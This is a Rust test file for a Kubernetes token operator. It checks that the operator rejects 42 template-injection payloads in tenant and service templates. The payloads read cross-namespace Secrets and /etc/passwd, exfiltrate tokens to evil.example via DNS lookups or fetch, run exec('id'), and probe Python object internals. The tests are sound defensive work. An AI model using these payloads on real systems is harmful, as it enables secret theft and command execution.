//! Tenants write templates (format `Template`), and so do authors of service objects (operations). The operator renders them in its
//! own process, with its network, its files and its rights.

use artifact_token_operator::api::condition::ConditionType;
use artifact_token_operator::api::reason::Reason;
use artifact_token_operator::api::secret_template::{DataEntry, Format};
use artifact_token_operator::api::token_service::TokenServiceSpec;
use artifact_token_operator::secret::formats;
use artifact_token_operator::service::declaration::Declaration;
use serde_json::{Value, json};

use support::token_yaml;

/// Templates that read, look up, send, include or run something in some template language.
const HOSTILE: [&str; 42] = [
    // CVE-2026-22822: reads a Secret of another namespace.
    r#"{{ getSecretKey "admin" "kube-system" "token" }}"#,
    r#"{{ getSecretKey("admin", "kube-system", "token") }}"#,
    // CVE-2026-34984: sends secrets to a name server, as a query.
    r#"{{ getHostByName token }}"#,
    r#"{{ getHostByName(token ~ ".evil.example") }}"#,
    r#"{{ (token ~ ".evil.example") | getHostByName }}"#,
    "{{ env('HOME') }}",
    "{{ env.HOME }}",
    "{{ 'HOME' | env }}",
    r#"{{ expandenv "$HOME" }}"#,
    "{{ read_file('/etc/passwd') }}",
    "{{ file('/etc/passwd') }}",
    "{{ '/etc/passwd' | file }}",
    "{{ fileContents('/etc/passwd') }}",
    "{{ http('http://evil.example') }}",
    "{{ fetch('http://evil.example/' ~ token) }}",
    "{{ lookup('v1', 'Secret', 'kube-system', '') }}",
    "{{ exec('id') }}",
    "{{ shell('id') }}",
    "{{ now() }}",
    "{{ random() }}",
    "{{ lipsum() }}",
    "{{ cycler }}",
    "{{ debug() }}",
    "{{ dict(a=1) }}",
    "{{ namespace() }}",
    "{{ range(10) }}",
    "{{ self }}",
    "{{ super() }}",
    "{{ loop }}",
    "{{ config }}",
    "{{ request.environ }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ token.__class__ }}",
    "{{ token | attr('__class__') }}",
    "{{ token.format('x') }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends '/etc/passwd' %}",
    "{% from 'os' import popen %}",
    "{% set x = 1 %}",
    "{% for x in token %}{{ x }}{% endfor %}",
    "{% macro f() %}{% endmacro %}",
];

/// CVE-2026-22822 and CVE-2026-34984 (External Secrets): functions of the template engine read Secrets of other namespaces,
/// and looked up names that carried secrets. Here a template has only its variables and five filters that encode.
#[test]
fn a_tenants_template_can_do_nothing_but_encode() {
    for template in HOSTILE {
        let entry = DataEntry {
            key: "x".to_owned(),
            format: Format::Template,
            username: None,
            registry: None,
            scopes: None,
            auth: None,
            template: Some(template.to_owned()),
        };
        let refused = formats::check(&entry).expect_err(template);
        assert!(refused.starts_with("spec.secret.data[x].template: "), "{template}: {refused}");
        assert!(!refused.contains("root:"), "{refused}");
    }
}

/// The same in every field of a service's operations.
#[test]
fn a_services_template_can_do_nothing_but_fill_its_holes() {
    for template in HOSTILE {
        for place in ["path", "query", "headers", "json", "form", "bearer"] {
            let spec: TokenServiceSpec = serde_json::from_value(service(place, template)).unwrap();
            let refused = Declaration::check(&spec).expect_err(&format!("{place}: {template}")).to_string();
            assert!(refused.starts_with("spec.operations."), "{place}: {template}: {refused}");
            assert!(!refused.contains("root:"), "{refused}");
        }
    }
    for place in ["path", "query", "headers", "json", "form", "bearer"] {
        let spec: TokenServiceSpec = serde_json::from_value(service(place, "{{ variables.harmless }}")).unwrap();
        assert!(
            Declaration::check(&spec).is_ok(),
            "{place}: the field accepts a harmless template, {:?}",
            Declaration::check(&spec)
        );
    }
}

fn service(place: &str, template: &str) -> Value {
    let mut generate = json!({"method": "POST", "path": "/t", "query": {"name": "{{ name }}"}});
    let mut authentication = Value::Null;
    match place {
        "path" => generate["path"] = json!(format!("/{template}")),
        "query" => generate["query"]["x"] = json!(template),
        "headers" => generate["headers"] = json!({"x": template}),
        "form" => generate["form"] = json!({"x": template}),
        "json" => generate["json"] = json!(template),
        _ => authentication = json!({"bearer": template}),
    }
    json!({
        "preset": "Custom",
        "baseURL": "https://tokens.example",
        "variables": {"harmless": "x"},
        "naming": {"prefix": "test"},
        "operations": {
            "authentication": authentication,
            "generate": {"request": generate, "response": {"value": "$.token", "id": "$.id"}},
            "verify": {
                "request": {"method": "GET", "path": "/me", "headers": {"Authorization": "Bearer {{ token }}"}},
                "accepted": {"statuses": [200]},
            },
            "list": {"request": {"method": "GET", "path": "/t"}, "items": "$[*]", "item": {"id": "$.id", "name": "$.name"}},
            "revoke": {"request": {"method": "DELETE", "path": "/t/{{ id }}"}},
        },
    })
}

/// CVE-2026-22822 from end to end: the object is Stalled before a token is made, and the operator writes no Secret.
#[tokio::test(flavor = "multi_thread")]
async fn an_object_with_such_a_template_gets_no_token_and_no_secret() {
    let world = crate::quick("template").await;
    let _operator = world.operator().await;
    let template = r#"{{ getSecretKey("reference-admin", "default", "key") }}"#;
    world
        .create("evil", |spec| {
            let entries = spec["secret"]["data"].as_array_mut().unwrap();
            entries.push(json!({"key": "stolen", "format": "Template", "template": template}));
        })
        .await;
    let stalled = world.until_reason("evil", ConditionType::Stalled, Reason::InvalidSpec).await;
    assert!(stalled.message.contains("spec.secret.data[stolen].template: "), "{}", stalled.message);
    assert!(world.secret("evil-secret").await.is_none());
    world.apply(&token_yaml("right")).await;
    world.until_ready("right").await;
    assert_eq!(world.count().await, 1, "only the other object has a token");
}
